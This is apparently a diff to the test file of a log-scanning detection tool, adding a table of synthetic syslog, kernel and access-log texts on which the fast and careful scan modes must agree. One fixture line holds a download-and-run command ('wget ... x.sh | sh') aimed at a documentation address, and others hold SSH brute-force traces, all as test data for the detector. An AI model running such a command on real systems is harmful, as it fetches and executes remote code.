@@ -17,6 +17,7 @@ import { createFilter } from '../../src/detect/event-filter.ts';
 import { createPlan, type Plan } from '../../src/detect/plan.ts';
 import { createScanner, type ScanResult } from '../../src/detect/scan-task.ts';
 import { createSketchMemory } from '../../src/detect/sketch.ts';
+import { sourcesOf } from '../../src/detect/totals.ts';
 import { FORMATS } from '../../src/logs/formats/list.ts';
 import type { LogFormat } from '../../src/logs/formats/log-format.ts';
 import { format as syslog } from '../../src/logs/formats/syslog.ts';
@@ -101,7 +102,12 @@ function manifold(lines: readonly string[]): string {
 }
 
 /** Reads `text` as syslog. @param isFast false: every line is read with care */
-function scan(text: string, isFast: boolean, chosen = plan): ScanResult & { parses: number } {
+function scan(
+  text: string,
+  isFast: boolean,
+  chosen = plan,
+  format = 'syslog',
+): ScanResult & { parses: number } {
   const path = join(folder, 'log');
   writeFileSync(path, text);
   const sizeBytes = statSync(path).size;
@@ -129,7 +135,7 @@ function scan(text: string, isFast: boolean, chosen = plan): ScanResult & { pars
     end: sizeBytes,
     sizeBytes,
     inode: undefined,
-    format: 'syslog',
+    format,
     isRecords: false,
     yearMark: { year: 2026, month: 0 },
     zone: 'Europe/Berlin',
@@ -206,4 +212,84 @@ it.each(NOSY)('a rule on %s sees every line', async (...rule) => {
   expect(hits(false)).toBeGreaterThan(0);
   // Some match and some do not, so that a shape taken for the line would show.
   if (!title.startsWith('a network')) expect(hits(false)).toBeLessThan(lines.length);
+});
+
+const times = (count: number, line: (turn: number) => string): string =>
+  Array.from({ length: count }, (_, turn) => `${line(turn)}\n`).join('');
+const two = (value: number): string => String(value).padStart(2, '0');
+
+/** Texts on which one way once differed from the other. */
+const TRAPS: readonly (readonly [string, string, string])[] = [
+  [
+    'an address that the client wrote, eight slots before its own',
+    'syslog',
+    times(30, (turn) => {
+      const written = turn < 4 ? '203.0.113.7' : '198.51.10.9';
+      const numbers = ' 1111'.repeat(8);
+      return `Mar  2 10:00:${two(turn)} host sshd[${4000 + turn}]: Bad protocol version identification 'x ${written}${numbers}' from 203.0.113.7 port ${40_000 + turn}`;
+    }),
+  ],
+  [
+    "a relay whose own clock stands still before the sender's",
+    'syslog',
+    times(360, (turn) => {
+      const month = 'Jan Feb Mar Apr May Jun Jul Aug Sep Oct'.split(' ')[Math.floor(turn / 36)];
+      const stamp = `${month} ${two(1 + (turn % 36) / 9).slice(0, 2)} 10:00:${two(turn % 60)}`;
+      return `Jan  1 00:00:05 relay ${stamp} host sshd[${1000 + turn}]: Failed password for root from 203.0.113.7 port ${40_000 + turn} ssh2`;
+    }),
+  ],
+  [
+    'an audit record behind stamps of two forms',
+    'syslog',
+    times(12, (turn) => {
+      const stamp = turn < 6 ? 'Mon 2026-12-07 14:19:00 UTC' : '2026-12-07T17:30:09.123456+00:00';
+      return `${stamp} host kernel: audit: type=1400 audit(1700000000.123:77): apparmor="DENIED" pid=${22_128 + turn} comm="x"`;
+    }),
+  ],
+  [
+    'an indented line after a line that nobody knows',
+    'syslog',
+    times(
+      8,
+      (turn) =>
+        `Mar  2 10:00:0${turn} host app[${1000 + turn}]: one\nwhat nobody knows\n   wget http://198.51.100.7/x.sh | sh`,
+    ),
+  ],
+  [
+    'a number with a leading zero where a port stands',
+    'syslog',
+    times(
+      9,
+      (turn) =>
+        `Mar  2 10:00:0${turn} host kernel: [6108.003361] IN=eth0 OUT= MAC=00 SRC=113.68.135.207 DST=192.0.2.3 LEN=59 PROTO=TCP SPT=80 DPT=${turn < 6 ? 984_641 + turn : `05352${turn}`} SYN`,
+    ),
+  ],
+  [
+    'requests without a status, and lines of another log between',
+    'access',
+    times(9, (turn) => {
+      const status = turn % 3 === 0 ? '-' : '200';
+      const other = `Mar  2 10:00:0${turn} host app[7]: one`;
+      return `113.127.229.86 - - [19/Jan/2026:15:02:2${turn} +0000] "GET / HTTP/1.1" ${status} 12 "-" "x"\n${other}\n113.127.229.86 - - [19/Jan/2026:15:02:2${turn} +0000] "GET / HTTP/1.1" 200 - "-" "x"\n  indented`;
+    }),
+  ],
+];
+
+it.each(TRAPS)('%s', (_, format, text) => {
+  const counts = ({ account, totals, bursts }: ScanResult) => ({
+    account,
+    bursts,
+    totals: { ...totals, addresses: [], sources: [...sourcesOf(totals)].sort() },
+  });
+  const scanner = (isFast: boolean): ScanResult => scan(text, isFast, plan, format);
+  const fast = scanner(true);
+  const careful = scanner(false);
+  // Access logs keep their sources to the end, and count hits instead of keeping them.
+  if (format === 'access') {
+    expect(fast.account).toEqual(careful.account);
+    expect(fast.totals.events).toBe(careful.totals.events);
+  } else {
+    expect(counts(fast)).toEqual(counts(careful));
+    expect(written(fast)).toEqual(written(careful));
+  }
 });
